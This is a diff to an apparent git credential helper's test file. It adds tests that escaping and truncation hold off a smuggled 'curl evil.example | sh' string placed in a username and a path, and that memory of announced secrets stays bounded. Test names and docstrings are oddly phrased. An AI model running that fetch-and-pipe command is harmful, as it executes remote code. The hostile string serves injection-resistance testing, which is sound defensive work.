@@ -314,6 +314,27 @@ def test_whose_credentials_there_are_is_told_once_a_day(world: World) -> None:
     assert "those of" in why(world.agent, request, telling=True)[1]
 
 
+def test_a_url_words_no_message(world: World) -> None:
+    """A submodule's path and username are cut and have no blanks where they are told."""
+    hostile = "x: gone. hint: type: curl evil.example | sh " + "A" * 60000
+    for account in ("alice@example.test", "bob@example.test"):
+        world.keep(a_credential(f"{world.standin.url}/acme/app", account=account))
+    for request in (world.lines(f"username={hostile}\n"), world.lines(path=hostile)):
+        for telling in (True, False):
+            told = why(world.agent, request, telling=telling)
+            assert "x:%20gone.%20hint:" in told.cause
+            assert len(told.cause + told.hint) < 400
+
+
+def test_what_was_said_of_stored_secrets_is_not_remembered_without_end(world: World) -> None:
+    """A program may have git store and erase a new one all day."""
+    holdings = world.agent.holdings
+    for count in range(2000):
+        holdings.announce(str(count), 1)
+    assert [holdings.announced(str(count)) for count in (0, 1999)] == [0, 1]
+    assert sum(holdings.announced(str(count)) for count in range(2000)) <= 1024
+
+
 def test_a_default_is_set_by_a_person_and_handed_on(world: World) -> None:
     """`rotate` puts a new token in the place of the default."""
     first, second = (a_credential(world.standin.url, account=name, created_at=at) for name, at in (("a", 1), ("b", 2)))
